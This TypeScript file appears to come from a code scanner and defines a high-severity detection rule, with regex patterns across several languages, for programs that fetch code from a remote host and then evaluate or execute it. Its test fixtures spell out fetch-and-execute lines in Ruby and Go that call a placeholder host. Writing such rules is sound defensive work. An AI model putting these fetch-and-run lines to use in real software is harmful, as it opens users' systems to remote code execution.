/** RC-03, SY-02 in compiled and less usual languages: what is loaded from a host, and what is deleted. */
import { inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row } from '../../engine/rule.ts';
import { byForeignHost } from '../programs/foreign-hosts.ts';
import { byKind } from './by-kind.ts';

/** Rows of RC-03. */
export const fetchedElsewhere: readonly Row[] = [
  row('a program in any language loads or starts what a host sends', {
    in: ['script', 'fence', 'config', 'decoded'],
    within: 'block',
    match: exactPattern(
      raw(
        String.raw`\b(?:eval|instance_eval|class_eval|evaluate)[ (]\s?(?:URI\.open|Net::HTTP\.get|open|file_get_contents|new URL)\(\s?["']https?:\/\/[^"'\s]{4,160}|`,
      ),
      raw(
        String.raw`\b(?:include|require)(?:_once)?[ (]\s?["']https?:\/\/[^"'\s]{4,160}\.(?:php|rb|lua)["']|\bapply from:\s?["']https?:\/\/[^"'\s]{4,160}|`,
      ),
      raw(String.raw`new URLClassLoader\([^\n]{0,60}https?:\/\/[^"'\s]{4,160}[\s\S]{0,400}?\.loadClass\(|`),
      raw(
        String.raw`\bhttp\.(?:Get|request)\(\s?["'][^"'\s]{8,160}["'][\s\S]{0,500}?(?:os\.WriteFile\([\s\S]{0,200}?exec\.Command\(|loadstring\()|`,
      ),
      raw(
        String.raw`\bGet(?:ByteArray|Stream|String)Async\(\s?["']https?:\/\/[^"'\s]{4,160}[\s\S]{0,300}?Assembly\.Load\(|`,
      ),
      raw(
        String.raw`\b(\w{1,20})(?:,\s?\w{1,10})?\s?=\s?[\w.]{0,20}urlretrieve\(\s?["']https?:\/\/[^"'\s]{4,160}[\s\S]{0,200}?\brunpy\.run_path\(\s?\1\b`,
      ),
    ),
    severity: 'high',
    weigh: (hit) => (byKind(hit) === null ? null : byForeignHost(hit)),
    catches: [
      inFile('a.rb', 'eval URI.open("https://parts.invalid/a.rb").read'),
      inFile(
        'main.go',
        'r, _ := http.Get("https://parts.invalid/a")',
        'os.WriteFile("/tmp/a", body, 0755)',
        'exec.Command("/tmp/a").Start()',
      ),
    ],
    spares: [
      inFile('main.go', 'r, _ := http.Get("https://parts.invalid/a")', 'os.WriteFile("a.json", body, 0644)'),
    ],
  }),
];
